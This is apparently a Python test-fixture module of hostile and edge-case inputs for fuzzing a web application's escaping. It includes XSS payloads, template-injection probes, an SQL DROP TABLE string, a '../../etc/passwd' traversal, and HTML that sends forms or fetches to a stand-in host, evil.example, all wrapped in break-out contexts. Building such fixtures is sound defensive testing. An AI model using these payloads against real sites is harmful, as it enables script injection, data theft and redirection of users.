"""Texts that want to break out of a page, all of them in every place from which they might, and odd values."""

from typing import Final

__all__ = ["HOSTILE", "ODD", "ODD_BYTES", "wrapped"]

ODD: Final = (
    "", " ", "9" * 35, "9" * 5_000, "-1", "-" + "9" * 35, str(2**62), str(2**63 - 1), str(2**63), str(-(2**63)),
    "1e308", "1e999", "-1e999", "1e18", "253402300800", "-62135596801", "-1e12", "NaN", "nan", "-inf",
    "0x10", "1_0", "٣", "²", "1.5", "true", "null", "None", "0001-01-01", "0000-01-01", "9999-12-31", "10000-01-01",
    "2026-02-31", "2026-W01-1", "20261120", "-0001-01-01", "today", "\x00", "a\x00b", "\r\nX: y",
    "a" * 5_000, "记" * 300,
    "'; DROP TABLE turns; --", "../../etc/passwd", "user:", "room:", "user:\x00", "owner:", ":", "{}", "[]", "%", "%s",
    "{0}", "*", '"', '"a', "(", "NEAR(", "a AND", "-a", "\ufeff", "\u202e", "\U0010ffff", "\ue000",
)  # fmt: skip
"""Values that no field expects: ends of numbers and of the calendar, what is no number, and what ends a text."""
ODD_BYTES: Final = ("%ED%A0%80", "%ED%BF%BF%ED%A0%80", "%FF", "%00", "%C0%80", "%", "%zz", "%E4%B8", "%u0041")
"""Escapes that are no valid text: halves of a character, other encodings, and what is no escape."""

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "</template><script>1</script>", '"><script>1</script>', "' onmouseover='alert(1)", "{{ 7 * 7 }}",
    "<a href=javascript:alert(1)>x</a>", "{% include 'x' %}", "<style>*{display:none}</style>",
    "<div hx-get=//evil.example hx-trigger=load>", "<input name=form_token value=x>",
    "</form><form action=//evil.example>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "\u202eevil\u202c", "\x1b[31mred\x1b[0m",
    "&lt;b&gt;", "<iframe srcdoc='<script>1</script>'>", "<!-- --><script>1</script>",
    "<object data=//evil.example>", "]]><x>",
]  # fmt: skip

WRAPS = (
    "{}", "a {} b", '"{}"', "'{}'", "{}\u202e", "<b>{}", "--> {}", "*/{}", "]]>{}", "%3C{}", "&#60;{}", "\\{}", "`{}`",
    "</textarea>{}", "</title>{}",
)  # fmt: skip


def wrapped() -> list[str]:
    """Return every hostile text in every place from which it could break out."""
    return [wrap.replace("{}", text) for wrap in WRAPS for text in HOSTILE]
